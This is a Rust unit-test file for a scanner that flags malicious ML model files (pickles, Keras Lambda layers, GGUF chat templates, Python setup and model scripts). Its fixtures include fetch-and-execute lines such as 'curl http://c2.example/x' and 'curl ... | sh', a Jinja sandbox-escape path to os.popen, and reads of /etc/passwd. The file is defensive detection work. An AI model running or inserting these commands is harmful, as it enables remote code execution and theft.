//! What effects become: one finding for one call, with everything an analyst needs.

use super::{effect, examined, judged, names, pickle, program, value};
use wb_core::{
    CallStyle, Capability, Component, Confidence, Constant, Content, Effect, Gap, Indicator,
    IndicatorKind, Language, Op, OpKind, Payload, PayloadKind, Program, Severity, Span, Trigger,
    Verdict,
};

fn payload(kind: PayloadKind, layers: &[&str], text: &str) -> Payload {
    let layers = layers.iter().map(|layer| (*layer).to_owned()).collect();
    Payload { kind, layers, text: text.to_owned() }
}

#[test]
fn a_command_is_one_finding_that_says_everything() {
    let shell = payload(PayloadKind::Shell, &[], "curl http://c2.example/x");
    let call = Effect {
        payloads: vec![shell.clone()],
        indicators: vec![Indicator::new(IndicatorKind::Domain, "c2.example")],
        inner: vec![effect("curl", Capability::Network)],
        ..effect("posix.system", Capability::RunCommand)
    };
    let examined = examined("pickle", program(Language::Pickle, Trigger::Load), vec![call]);
    let [finding] = examined.findings.as_slice() else { panic!("{:?}", names(&examined)) };
    assert_eq!(finding.rule, "pickle-runs-command");
    assert_eq!(finding.headline, "loading this model runs a shell command through `posix.system`");
    assert_eq!(finding.call.as_deref(), Some("posix.system"));
    assert_eq!(finding.payloads, [shell]);
    assert_eq!(finding.location.place, "op 1");
    assert_eq!(finding.location.span, Some(Span::new(10, 2)));
    assert_eq!((finding.severity, finding.confidence), (Severity::Critical, Confidence::High));
    assert_eq!(examined.verdict, Verdict::Malicious);
    assert!(
        finding.techniques.contains(&"T1059.004") && finding.techniques.contains(&"AML.T0011.000")
    );
    let because: Vec<&str> = finding.evidence.iter().map(|one| one.because.as_str()).collect();
    assert!(
        because.iter().any(|clause| clause.contains("another name of `os.system`")),
        "{because:?}"
    );
}

#[test]
fn steps_that_prepare_a_call_are_no_findings_of_their_own() {
    let mut program = program(Language::Pickle, Trigger::Load);
    let op = |number: u64, kind| Op { span: Span::new(number * 10, 2), number, kind };
    let (keywords, style) = (Vec::new(), CallStyle::Call);
    // exec(marshal.loads(...)): op 1 is the inner call, op 2 the outer.
    program
        .push(op(2, OpKind::Call { callee: value(0), arguments: vec![value(1)], keywords, style }));
    let inner = effect("marshal.loads", Capability::RunCode);
    let outer = Effect { op: 2, number: 2, ..effect("builtins.exec", Capability::RunCode) };
    let together = examined("pickle", program.clone(), vec![inner, outer]);
    assert_eq!(names(&together), ["pickle-runs-code"]);
    assert_eq!(together.findings[0].call.as_deref(), Some("builtins.exec"));
    // A second call whose value goes nowhere is a second finding.
    let mut apart = program;
    apart.ops[2].kind = OpKind::Call {
        callee: value(0),
        arguments: Vec::new(),
        keywords: Vec::new(),
        style: CallStyle::Call,
    };
    let first = effect("os.system", Capability::RunCommand);
    let span = Span::new(20, 2);
    let second = Effect { op: 2, number: 2, span, ..effect("builtins.exec", Capability::RunCode) };
    let both = examined("pickle", apart, vec![first, second]);
    assert_eq!(names(&both), ["pickle-runs-command", "pickle-runs-code"]);
}

#[test]
fn each_capability_of_a_pickle_has_its_rule_and_verdict() {
    use Capability::*;
    for (callable, capability, rule, verdict) in [
        ("ctypes.CDLL", LoadLibrary, "pickle-loads-library", Verdict::Malicious),
        ("socket.create_connection", Network, "pickle-opens-network", Verdict::Malicious),
        ("shutil.rmtree", Delete, "pickle-touches-files", Verdict::Malicious),
        ("builtins.open", ReadFile, "pickle-touches-files", Verdict::Suspicious),
        ("joblib.load", Deserialize, "pickle-nested-pickle", Verdict::Suspicious),
        ("os.getenv", Environment, "pickle-touches-environment", Verdict::Suspicious),
        ("atexit.register", Defer, "pickle-defers-call", Verdict::Suspicious),
        ("pkgutil.resolve_name", Resolve, "pickle-resolves-names", Verdict::Suspicious),
        ("mailcap.lookup", Unknown, "pickle-unknown-callable", Verdict::Suspicious),
        ("myproject.build", Unknown, "pickle-unknown-callable", Verdict::Suspicious),
        ("myproject.Model", Unknown, "pickle-unknown-callable", Verdict::Unknown),
    ] {
        let examined = pickle(callable, capability);
        assert_eq!(names(&examined), [rule], "{callable}");
        assert_eq!(examined.verdict, verdict, "{callable}");
    }
}

#[test]
fn reading_a_named_file_outside_the_model_has_no_innocent_reading() {
    let path = Indicator::new(IndicatorKind::Path, "/etc/passwd");
    let call = Effect { indicators: vec![path], ..effect("builtins.open", Capability::ReadFile) };
    let examined = examined("pickle", program(Language::Pickle, Trigger::Load), vec![call]);
    assert_eq!(examined.verdict, Verdict::Malicious);
}

#[test]
fn tensors_inside_a_pickle_are_ordinary_and_commands_inside_are_not() {
    let load = |inner: Vec<Effect>| Effect {
        payloads: vec![payload(PayloadKind::Pickle, &[], "...")],
        inner,
        ..effect("torch.storage._load_from_bytes", Capability::Deserialize)
    };
    let pickle = || program(Language::Pickle, Trigger::Load);
    assert_eq!(examined("pickle", pickle(), vec![load(vec![])]).verdict, Verdict::Clean);
    let hidden = load(vec![effect("os.system", Capability::RunCommand)]);
    let examined = examined("pickle", pickle(), vec![hidden]);
    assert_eq!(names(&examined), ["pickle-nested-pickle"]);
    assert_eq!(examined.verdict, Verdict::Malicious);
}

#[test]
fn a_function_rebuilt_from_honest_bytecode_is_for_a_person_to_look_at() {
    let builder = |inner: Vec<Effect>| Effect {
        payloads: vec![payload(PayloadKind::Python, &[], "return x + 1")],
        inner,
        ..effect("cloudpickle.cloudpickle._make_function", Capability::RunCode)
    };
    let pickle = || program(Language::Pickle, Trigger::Load);
    assert_eq!(examined("pickle", pickle(), vec![builder(vec![])]).verdict, Verdict::Suspicious);
    let bad = builder(vec![effect("subprocess.run", Capability::RunCommand)]);
    assert_eq!(examined("pickle", pickle(), vec![bad]).verdict, Verdict::Malicious);
}

#[test]
fn what_is_only_imported_weighs_less() {
    let import = |callable, capability| Effect { called: false, ..effect(callable, capability) };
    let pickle = || program(Language::Pickle, Trigger::Load);
    let dangerous = examined("pickle", pickle(), vec![import("os.system", Capability::RunCommand)]);
    assert_eq!(names(&dangerous), ["pickle-imports-dangerous-callable"]);
    assert_eq!(dangerous.verdict, Verdict::Suspicious);
    let unknown = examined("pickle", pickle(), vec![import("myproject.f", Capability::Import)]);
    assert_eq!(names(&unknown), ["pickle-unknown-import"]);
    assert_eq!(unknown.verdict, Verdict::Unknown);
    let attribute =
        examined("pickle", pickle(), vec![import("builtins.getattr", Capability::Resolve)]);
    assert_eq!(names(&attribute), [""; 0]);
    let bound = Effect {
        arguments: vec!["'id'".to_owned()],
        ..import("os.system", Capability::RunCommand)
    };
    assert_eq!(examined("pickle", pickle(), vec![bound]).verdict, Verdict::Malicious);
    let partial = Effect {
        reached_by: Some("functools.partial(os.system)".to_owned()),
        ..import("os.system", Capability::RunCommand)
    };
    assert_eq!(examined("pickle", pickle(), vec![partial]).verdict, Verdict::Malicious);
}

fn layer() -> Component {
    Component {
        kind: "layer",
        name: "norm".to_owned(),
        class: "Lambda".to_owned(),
        place: "config.layers[2]".to_owned(),
        span: Some(Span::new(50, 40)),
        ..Component::default()
    }
}

fn lambda(effects: Vec<Effect>) -> crate::Examined {
    let mut code = program(Language::CPython, Trigger::Inference);
    code.component = Some("norm".to_owned());
    code.place = "config.layers[2].config.function".to_owned();
    let content = Content { programs: vec![code], components: vec![layer()], ..Content::default() };
    judged("keras", &content, effects)
}

#[test]
fn a_lambda_layer_that_runs_a_command_is_named() {
    let call = Effect {
        payloads: vec![
            payload(PayloadKind::Text, &[], "aW1wb3J0IG9z"),
            payload(PayloadKind::Shell, &["base64"], "id"),
        ],
        trigger: Trigger::Inference,
        ..effect("os.system", Capability::RunCommand)
    };
    let examined = lambda(vec![call]);
    let [finding] = examined.findings.as_slice() else { panic!("{:?}", names(&examined)) };
    assert_eq!(finding.rule, "keras-lambda-runs-code");
    assert_eq!(finding.location.component.as_deref(), Some("norm"));
    assert_eq!(finding.location.place, "config.layers[2].config.function");
    assert_eq!(finding.payloads.last().map(|payload| payload.text.as_str()), Some("id"));
    assert_eq!(finding.trigger, Some(Trigger::Inference));
    assert!(finding.techniques.contains(&"T1140"));
    assert_eq!(examined.verdict, Verdict::Malicious);
}

#[test]
fn a_lambda_layer_that_computes_is_clean() {
    assert_eq!(names(&lambda(vec![])), [""; 0]);
    // A helper that the file does not import is the caller's to define.
    let helper = lambda(vec![effect("my_helper", Capability::Unknown)]);
    assert_eq!((names(&helper).len(), helper.verdict), (0, Verdict::Clean));
}

#[test]
fn a_configuration_that_names_a_command_is_found() {
    let mut config = program(Language::Config, Trigger::Load);
    config.component = Some("norm".to_owned());
    let content =
        Content { programs: vec![config], components: vec![layer()], ..Content::default() };
    let examined = judged("keras-h5", &content, vec![effect("os.system", Capability::RunCommand)]);
    assert_eq!(names(&examined), ["keras-names-callable"]);
    assert_eq!(examined.verdict, Verdict::Malicious);
}

#[test]
fn a_template_is_one_finding_for_its_walk_and_its_call() {
    let template = || {
        let mut template = program(Language::Jinja, Trigger::Template);
        template.component = Some("tokenizer.chat_template".to_owned());
        template
    };
    let trigger = Trigger::Template;
    let walk = Effect {
        trigger,
        op: 0,
        ..effect("cycler.__init__.__globals__", Capability::AttributeWalk)
    };
    let call = Effect { trigger, ..effect("os.popen", Capability::RunCommand) };
    let both = examined("gguf", template(), vec![walk.clone(), call]);
    let [finding] = both.findings.as_slice() else { panic!("{:?}", names(&both)) };
    assert_eq!(finding.rule, "template-escapes-sandbox");
    assert_eq!(finding.location.component.as_deref(), Some("tokenizer.chat_template"));
    assert_eq!(both.verdict, Verdict::Malicious);
    let alone = examined("gguf", template(), vec![walk]);
    assert_eq!(names(&alone), ["template-escapes-sandbox"]);
    let raises = examined("gguf", template(), vec![effect("raise_exception", Capability::Unknown)]);
    assert_eq!(raises.verdict, Verdict::Clean);
}

#[test]
fn a_script_is_judged_by_what_it_hides() {
    let module = || program(Language::Python, Trigger::Import);
    let plain = effect("subprocess.run", Capability::RunCommand);
    assert_eq!(examined("python", module(), vec![plain.clone()]).verdict, Verdict::Clean);
    let hidden =
        Effect { payloads: vec![payload(PayloadKind::Python, &["base64"], "...")], ..plain };
    let examined = examined("python", module(), vec![hidden]);
    assert_eq!(names(&examined), ["python-runs-at-import"]);
    assert_eq!(examined.verdict, Verdict::Malicious);
}

/// What is made of Python source in a file of that name.
fn verdict_on(name: &str, source: &str) -> Verdict {
    let mut budget = wb_core::Budget::default();
    let program = wb_code::python::lift(source, Trigger::Import, &mut budget);
    let content = Content { programs: vec![program.expect("it parses")], ..Content::default() };
    crate::examine(&super::artifact(name, "python"), &content, &mut budget).verdict
}

#[test]
fn a_script_that_runs_what_it_fetches_is_for_review() {
    let verdict = |source: &str| verdict_on("setup.py", source);
    let head = "import subprocess, urllib.request\n";
    let fetched = "data = urllib.request.urlopen('https://example.org/x').read()\n";
    assert_eq!(
        verdict(&format!("{head}{fetched}subprocess.Popen(data, shell=True)\n")),
        Verdict::Suspicious
    );
    assert_eq!(
        verdict(&format!("{head}{fetched}subprocess.run(['make', 'all'])\n")),
        Verdict::Clean
    );
    let piped = "subprocess.run('curl -s http://192.0.2.1/x | sh', shell=True)\n";
    assert_eq!(
        verdict(&format!("{head}if __name__ == '__main__':\n    {piped}")),
        Verdict::Suspicious
    );
    let copied = "subprocess.run('scp a.bin build@host.example:', shell=True)\n";
    assert_eq!(verdict(&format!("{head}if __name__ == '__main__':\n    {copied}")), Verdict::Clean);
    assert_eq!(verdict(&format!("{head}{copied}")), Verdict::Suspicious);
}

#[test]
fn commands_are_for_review_where_nobody_asked_for_them() {
    let verdict = |source: &str| verdict_on("model.py", source);
    let head = "import os, subprocess\n";
    for text in [
        "os.system('echo x')\n",
        "subprocess.check_output('id', shell=True)\n",
        "class TritonPythonModel:\n    def execute(self, requests):\n        subprocess.run(['id'])\n",
        "def handle(data, context):\n    return os.popen(data[0]['body']).read()\n",
        "from mlflow import pyfunc\nclass M(pyfunc.PythonModel):\n    def predict(self, c, x):\n        os.system('id')\n",
        "import datasets\nclass D(datasets.GeneratorBasedBuilder):\n    def _info(self):\n        os.system('id')\n",
    ] {
        assert_eq!(verdict(&format!("{head}{text}")), Verdict::Suspicious, "{text}");
    }
    for text in [
        "subprocess.run(['nvidia-smi'])\n",
        "def tool():\n    os.system('make')\n",
        "if __name__ == '__main__':\n    os.system('make')\n",
        "class TritonPythonModel:\n    def execute(self, requests):\n        return [r.upper() for r in requests]\n",
    ] {
        assert_eq!(verdict(&format!("{head}{text}")), Verdict::Clean, "{text}");
    }
}

#[test]
fn pickles_that_change_what_they_import_are_found() {
    let mut program = program(Language::Pickle, Trigger::Load);
    let op = |number: u64, kind| Op { span: Span::new(number * 10, 2), number, kind };
    let state = program.push(op(2, OpKind::Constant(Constant::None)));
    // BUILD on what a call returned is how every object is restored.
    program.push(op(3, OpKind::Build { of: value(1), state }));
    assert_eq!(names(&examined("pickle", program.clone(), vec![])), [""; 0]);
    program.push(op(4, OpKind::Build { of: value(0), state }));
    let found = examined("pickle", program, vec![]);
    assert_eq!(names(&found), ["pickle-attribute-set-on-import"]);
    assert_eq!(found.findings[0].location.place, "op 4");
}

#[test]
fn an_importer_that_is_called_for_an_unknown_module_is_found() {
    let import = |module: &str| {
        let mut program = Program::new(Language::Pickle, Trigger::Load, Span::new(0, 50));
        let op = |number: u64, kind| Op { span: Span::new(number * 10, 2), number, kind };
        let (owner, name) = ("importlib".to_owned(), "import_module".to_owned());
        let callee = program.push(op(0, OpKind::Import { module: owner, name }));
        let text = program.push(op(1, OpKind::Constant(Constant::Text(module.to_owned()))));
        let (arguments, keywords, style) = (vec![text], Vec::new(), CallStyle::Call);
        program.push(op(2, OpKind::Call { callee, arguments, keywords, style }));
        names(&examined("pickle", program, vec![]))
    };
    assert_eq!(import("helper.loader"), ["pickle-imports-by-name"]);
    assert_eq!(import("numpy.linalg"), [""; 0]);
}

#[test]
fn what_was_not_read_is_never_clean() {
    let content =
        Content { gaps: vec![Gap::somewhere("encrypted member `a`")], ..Content::default() };
    assert_eq!(judged("zip", &content, vec![]).verdict, Verdict::Unknown);
    assert_eq!(judged("zip", &Content::default(), vec![]).verdict, Verdict::Clean);
}

#[test]
fn a_million_calls_are_not_a_million_findings() {
    let calls = (0..1000)
        .map(|number| Effect {
            number,
            span: Span::new(number, 1),
            ..effect("os.system", Capability::RunCommand)
        })
        .collect();
    let examined = examined("pickle", program(Language::Pickle, Trigger::Load), calls);
    assert_eq!(examined.findings.len(), 64);
    assert!(examined.findings.iter().any(|finding| finding.headline.contains("936 more")));
}
